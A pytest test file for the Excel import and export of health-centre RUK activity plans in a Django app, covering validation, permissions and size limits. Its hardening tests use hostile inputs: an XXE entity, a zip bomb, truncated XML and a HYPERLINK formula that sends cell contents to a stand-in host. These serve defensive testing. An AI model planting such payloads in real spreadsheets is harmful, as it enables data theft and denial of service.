"""Excel import of RUK activities: a background job; every error by row and column, and
nothing saved unless the whole file is valid."""

import io
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from perencanaan.forms.ruk import ImporRUKForm
from perencanaan.models import KegiatanRUK
from perencanaan.services.ruk import TEMPLAT_RUK, ImporGagal, kegiatan_ruk_impor, ruk_jalankan
from puskesmas.models import TugasLatar

from ..berkas_xlsx import DTD_XXE, bom_sheet, sheet_xml
from ..berkas_xlsx import xlsx as berkas_tangan
from .factories_ruk import KegiatanRUKFactory, RUKFactory, klaster

JUDUL = [k.judul for k in TEMPLAT_RUK.kolom]


def _baris(klaster_nomor=2, upaya="Kelas ibu hamil", anggaran=1500000, sumber="BOK"):
    return [
        klaster_nomor,
        upaya,
        "4 kali",
        "K6 naik",
        "Ibu hamil",
        "100%",
        "Bidan",
        "Bidan, kader",
        "PKK",
        "Feb–Nov",
        anggaran,
        "Cakupan K6",
        sumber,
    ]


def _xlsx(rows, *, judul=None, sheet="RUK", nama="ruk.xlsx") -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(judul or JUDUL)
    for r in rows:
        ws.append(r)
    isi = io.BytesIO()
    wb.save(isi)
    return SimpleUploadedFile(nama, isi.getvalue())


@pytest.fixture
def ruk(dunia):
    return RUKFactory(puskesmas=dunia.a, tahun=2027)


@pytest.fixture
def unggah(masuk, ruk, django_capture_on_commit_callbacks):
    """Upload as ``user``; the job runs (Celery is eager in tests) after the commit."""

    def _unggah(user, berkas):
        c = masuk(user)
        with django_capture_on_commit_callbacks(execute=True):
            r = c.post(reverse("perencanaan:ruk_impor", args=[ruk.pk]), {"berkas": berkas})
        return r

    return _unggah


def _tugas():
    return TugasLatar.objects.get(jenis="impor_ruk")


def test_the_template_downloads_with_every_column(dunia, masuk, ruk):
    r = masuk(dunia.ktu_a).get(reverse("perencanaan:ruk_templat", args=[ruk.pk]))
    assert r.status_code == 200
    wb = load_workbook(io.BytesIO(r.content))
    assert wb.sheetnames == ["RUK", "Petunjuk"]
    assert [c.value for c in wb["RUK"][1]] == JUDUL
    assert JUDUL[0] == "Klaster" and "Sumber pembiayaan" in JUDUL
    assert "Kebutuhan anggaran (Rp)" in JUDUL


def test_a_valid_file_is_appended_in_one_go(dunia, unggah, ruk):
    KegiatanRUKFactory(ruk=ruk, klaster=klaster(2), urutan=1, upaya="Sudah ada")
    r = unggah(
        dunia.ktu_a,
        _xlsx(
            [
                _baris(),
                [None] * 13,  # empty rows are skipped
                _baris(4, "Pelacakan kontak TBC", "2.500.000", "jkn kapitasi"),
                _baris(2, "Posyandu", 750000, "APBD"),
            ]
        ),
    )
    tugas = _tugas()
    assert r["Location"] == reverse("tugas_latar", args=[tugas.pk])
    assert tugas.status == TugasLatar.Status.BERHASIL, (tugas.pesan, tugas.galat)
    assert tugas.tautan_hasil == reverse("perencanaan:ruk_detail", args=[ruk.pk])
    assert "3 kegiatan ditambahkan" in tugas.pesan
    rows = list(
        KegiatanRUK.objects.filter(ruk=ruk).values_list(
            "klaster__nomor", "urutan", "upaya", "kebutuhan_anggaran", "sumber_pembiayaan"
        )
    )
    assert rows == [
        (2, 1, "Sudah ada", Decimal(1_500_000), "BOK"),
        (2, 2, "Kelas ibu hamil", Decimal(1_500_000), "BOK"),
        (2, 3, "Posyandu", Decimal(750_000), "APBD"),
        (4, 1, "Pelacakan kontak TBC", Decimal(2_500_000), "JKN"),
    ]
    baru = KegiatanRUK.objects.get(upaya="Posyandu")
    assert baru.history.first().history_user == dunia.ktu_a
    page = r.client.get(r["Location"]).content.decode()
    assert "Berhasil" in page


def test_every_error_is_listed_and_nothing_is_saved(dunia, unggah, ruk):
    KegiatanRUKFactory(ruk=ruk)
    unggah(
        dunia.ktu_a,
        _xlsx(
            [
                _baris(),  # valid, but must not be saved either
                _baris(anggaran="satu juta"),
                _baris(klaster_nomor=7),
                _baris(sumber="Hibah"),
                _baris(upaya=None, klaster_nomor="dua"),
            ]
        ),
    )
    tugas = _tugas()
    assert tugas.status == TugasLatar.Status.GAGAL
    assert tugas.pesan == "Berkas berisi 5 kesalahan. Tidak ada data yang disimpan."
    galat = {(g["baris"], g["kolom"]): g["pesan"] for g in tugas.galat}
    assert set(galat) == {
        (3, "Kebutuhan anggaran (Rp)"),
        (4, "Klaster"),
        (5, "Sumber pembiayaan"),
        (6, "Upaya/Kegiatan"),
        (6, "Klaster"),
    }
    assert galat[(3, "Kebutuhan anggaran (Rp)")].startswith("«satu juta» bukan angka.")
    assert galat[(4, "Klaster")] == "Klaster 7 tidak dikenal. Isi dengan nomor klaster 1–5."
    assert galat[(5, "Sumber pembiayaan")].startswith("«Hibah» bukan pilihan yang sah.")
    assert galat[(6, "Upaya/Kegiatan")] == "Wajib diisi."
    assert KegiatanRUK.objects.filter(ruk=ruk).count() == 1


def test_wrong_sheet_is_explained(dunia, unggah, ruk):
    unggah(dunia.ktu_a, _xlsx([_baris()], sheet="Sheet1"))
    tugas = _tugas()
    assert tugas.status == TugasLatar.Status.GAGAL
    assert tugas.galat[0]["pesan"].startswith("Sheet «RUK» tidak ditemukan.")
    assert not KegiatanRUK.objects.exists()


def test_wrong_and_missing_columns_are_each_listed(dunia, unggah, ruk):
    judul = list(JUDUL)
    judul[1] = "Nama kegiatan"
    unggah(dunia.ktu_a, _xlsx([_baris()], judul=judul))
    tugas = _tugas()
    kolom = {(g["baris"], g["kolom"]) for g in tugas.galat}
    assert kolom == {(1, "Upaya/Kegiatan"), (1, "Nama kegiatan")}
    assert not KegiatanRUK.objects.exists()


def test_pj_klaster_imports_only_their_klaster(dunia, unggah, ruk):
    unggah(dunia.pj2_a, _xlsx([_baris(2), _baris(4)]))
    tugas = _tugas()
    assert tugas.status == TugasLatar.Status.GAGAL
    assert tugas.galat == [
        {"baris": 3, "kolom": "Klaster", "pesan": "Anda hanya dapat mengisi kegiatan klaster 2."}
    ]
    assert not KegiatanRUK.objects.exists()


def test_a_submitted_ruk_cannot_be_imported_into(dunia, unggah, ruk):
    KegiatanRUKFactory(ruk=ruk)
    ruk_jalankan(ruk=ruk, langkah="ajukan", user=dunia.ktu_a)
    r = unggah(dunia.ktu_a, _xlsx([_baris()]))
    assert r["Location"] == reverse("perencanaan:ruk_detail", args=[ruk.pk])
    assert not TugasLatar.objects.exists()
    assert KegiatanRUK.objects.count() == 1


def test_a_50_mb_file_is_refused_before_anything_is_stored(dunia, ruk):
    besar = _xlsx([_baris()])
    besar.size = 50 * 1024 * 1024  # claims 50 MB; nothing that large is written
    form = ImporRUKForm(files={"berkas": besar})
    assert not form.is_valid()
    assert form.errors["berkas"] == [
        "Berkas terlalu besar (50,0 MB); batasnya 10,0 MB. Hapus baris atau sheet yang tidak "
        "perlu, atau bagi menjadi beberapa berkas."
    ]
    # The reader refuses it too, should a file reach it another way.
    with pytest.raises(ImporGagal) as exc:
        kegiatan_ruk_impor(ruk=ruk, berkas=besar, user=dunia.ktu_a)
    assert exc.value.galat[0].pesan.startswith("Berkas terlalu besar (50,0 MB)")


@override_settings(MAX_IMPORT_FILE_SIZE=2 * 1024 * 1024)
def test_an_upload_over_the_limit_is_refused_by_the_view(dunia, unggah, ruk):
    besar = SimpleUploadedFile("besar.xlsx", b"0" * (2 * 1024 * 1024 + 1))
    r = unggah(dunia.ktu_a, besar)
    assert r.status_code == 200
    assert "Berkas terlalu besar (2,0 MB); batasnya 2,0 MB." in r.content.decode()
    assert not TugasLatar.objects.exists()


def test_not_an_excel_file(dunia, unggah, ruk):
    r = unggah(dunia.ktu_a, SimpleUploadedFile("ruk.csv", b"a;b;c"))
    assert "Unggah berkas Excel (.xlsx)" in r.content.decode()
    unggah(dunia.ktu_a, SimpleUploadedFile("rusak.xlsx", b"bukan zip"))
    tugas = _tugas()
    assert tugas.status == TugasLatar.Status.GAGAL
    assert tugas.galat[0]["pesan"].startswith("Berkas bukan file Excel (.xlsx)")


def test_only_drafters_may_upload(dunia, masuk, ruk):
    url = reverse("perencanaan:ruk_impor", args=[ruk.pk])
    assert masuk(dunia.staf_a).post(url, {"berkas": _xlsx([_baris()])}).status_code == 403
    assert masuk(dunia.staf_b).post(url, {"berkas": _xlsx([_baris()])}).status_code == 404
    assert not TugasLatar.objects.exists()


# --- Hardening: hostile files end the job with a message; the upload is deleted ----------

RUSAK = "Berkas Excel rusak atau tidak aman"


def _tangan(sheet, **kw) -> SimpleUploadedFile:
    return SimpleUploadedFile("ruk.xlsx", berkas_tangan(sheet, nama_sheet="RUK", **kw))


@pytest.mark.parametrize(
    "berkas",
    [
        lambda: _tangan(DTD_XXE + sheet_xml([(1, ["&xxe;"])])),
        lambda: _tangan(sheet_xml([(1, JUDUL), (2, _baris())])[:-40]),
        lambda: _tangan(bom_sheet(100 * 1024 * 1024, judul=JUDUL)),
        lambda: _tangan(sheet_xml([(1, JUDUL), (2, _baris()), (10**10, _baris())])),
    ],
    ids=["xxe", "xml-terpotong", "bom-zip", "celah-baris"],
)
def test_a_hostile_file_fails_the_job_with_a_message(dunia, unggah, ruk, berkas):
    r = unggah(dunia.ktu_a, berkas())
    assert r.status_code == 302
    tugas = _tugas()
    assert (tugas.status, tugas.progres) == (TugasLatar.Status.GAGAL, 100)
    assert tugas.pesan == "Berkas berisi 1 kesalahan. Tidak ada data yang disimpan."
    assert tugas.galat[0]["pesan"].startswith(RUSAK)
    assert not KegiatanRUK.objects.exists()


def test_25000_rows_without_a_dimension_stop_at_the_limit(dunia, unggah, ruk):
    sheet = sheet_xml([(1, JUDUL)] + [(n, _baris()) for n in range(2, 25_002)])
    unggah(dunia.ktu_a, _tangan(sheet))
    tugas = _tugas()
    assert tugas.status == TugasLatar.Status.GAGAL
    assert tugas.galat[0]["pesan"].startswith("Terlalu banyak baris data (lebih dari 20000)")
    assert not KegiatanRUK.objects.exists()


@pytest.mark.parametrize("baik", [True, False])
def test_the_upload_is_deleted_when_the_import_ends(dunia, unggah, ruk, settings, tmp_path, baik):
    settings.MEDIA_ROOT = tmp_path
    unggah(dunia.ktu_a, _xlsx([_baris(anggaran=1000 if baik else "banyak")]))
    tugas = _tugas()
    assert tugas.status == (TugasLatar.Status.BERHASIL if baik else TugasLatar.Status.GAGAL)
    assert not tugas.berkas_masuk
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


def test_the_export_writes_a_formula_like_text_as_text(dunia, masuk, ruk):
    jahat = '=HYPERLINK("http://contoh.invalid/?d="&B3,"Klik")'
    KegiatanRUKFactory(ruk=ruk, klaster=klaster(2), upaya=jahat, rincian="@SUM(A1)")
    r = masuk(dunia.ktu_a).get(reverse("perencanaan:ruk_xlsx", args=[ruk.pk]))
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content))["RUK"]
    upaya, rincian, anggaran = ws["B2"], ws["C2"], ws["K2"]
    assert (upaya.value, upaya.data_type) == (jahat, "s")
    assert (rincian.value, rincian.data_type) == ("@SUM(A1)", "s")
    assert anggaran.data_type == "n"
